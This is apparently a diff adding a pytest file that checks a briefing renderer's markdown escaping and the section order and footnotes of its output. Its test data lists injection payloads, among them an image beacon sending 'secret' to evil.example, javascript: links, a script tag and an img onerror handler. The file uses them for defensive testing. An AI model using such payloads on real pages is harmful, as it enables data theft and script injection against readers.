@@ -1,0 +1,102 @@
+"""Markdown of a briefing, read back by an independent parser with GitHub's extensions and automatic links."""
+
+from __future__ import annotations
+
+import pytest
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from briefings import seed_briefing
+from crossbrief.render import render
+from crossbrief.render.escape import markdown
+
+ALIVE = {"link_open", "image", "html_block", "html_inline", "fence", "code_block", "table_open", "heading_open", "hr"}
+
+
+def tokens(text: str) -> list[Token]:
+    flat: list[Token] = []
+    for token in MarkdownIt("gfm-like", {"html": True, "linkify": True}).parse(text):
+        flat += [token, *(token.children or [])]
+    return flat
+
+
+def shown(text: str) -> str:
+    return "".join(t.content for t in tokens(text) if t.type in {"text", "code_inline", "text_special"})
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](http://evil.example/?q=secret)",
+        "[click](javascript:alert(1)) and [ref][1]",
+        "<script>alert(1)</script> <img src=x onerror=alert(1)> <!-- x -->",
+        "see https://evil.example/a?b=c, www.evil.example or mailto:x@evil.example",
+        "javascript:alert(1) data:text/html;base64,AAAA",
+        "# heading",
+        "--- ",
+        "- item",
+        "+ item",
+        "1. item",
+        "1986) item",
+        "> quote",
+        "| a | b |",
+        "~~~ fence",
+        "``` fence",
+        "    indented",
+        "*bold* __bold__ `code` ~~gone~~",
+        "a&lt;b &amp; c &#60; d",
+        "back\\slash \\[x\\](y)",
+        "a `tick` https://evil.example/`x` b",
+        "[^a1]: a note of its own",
+        "<https://evil.example>",
+    ],
+)
+def test_text_shows_as_it_is_and_nothing_in_it_comes_alive(text: str) -> None:
+    written = markdown(text)
+    found = tokens(written)
+    assert not {t.type for t in found} & ALIVE
+    assert not {t.type for t in found} & {"em_open", "strong_open", "s_open", "bullet_list_open", "ordered_list_open"}
+    assert " ".join(shown(written).split()) == " ".join(text.split())
+
+
+def test_a_figure_is_not_littered_with_backslashes() -> None:
+    assert markdown("a $5.4 billion deal, 20% up; (see b)") == "a $5.4 billion deal, 20% up; (see b)"
+
+
+def test_a_briefing_reads_from_the_summary_to_the_most_severe_discrepancy_to_the_rest() -> None:
+    text = render(seed_briefing(), "md")
+    order = [
+        "# India buys",
+        "India has signed a deal",
+        "## Key points",
+        "## Where the sources disagree",
+        "### 1. By which year",
+        "### 2. How large was trade",
+        "### Minor differences",
+        "## Only in one article",
+        "## Timeline",
+        "## Claimed but not proven",
+        "## Sources",
+        "[^a1]: ",
+    ]
+    places = [text.index(part) for part in order]
+    assert places == sorted(places)
+
+
+def test_a_card_names_who_says_what_where_and_what_is_safe_to_print() -> None:
+    card = render(seed_briefing(), "md").split("### 1.")[1].split("### 2.")[0]
+    assert "**Contradiction**" in card
+    assert "high severity" in card
+    assert "CGTN, 8 Oct 2018, b" in card
+    assert "By **2030**, Putin said" in card
+    assert "**Safe to print:** “2030” or “2025”" in card
+    assert "**To settle it:** Look for the date" in card
+
+
+def test_every_footnote_is_marked_and_every_mark_has_its_footnote() -> None:
+    body, _, notes = render(seed_briefing(), "md").partition("\n[^")
+    labels = [line.split("]:")[0].removeprefix("[^") for line in ("[^" + notes).splitlines() if line]
+    assert labels
+    assert len(labels) == len(set(labels))
+    marks = {part.split("]")[0] for part in body.split("[^")[1:]}
+    assert marks == set(labels)
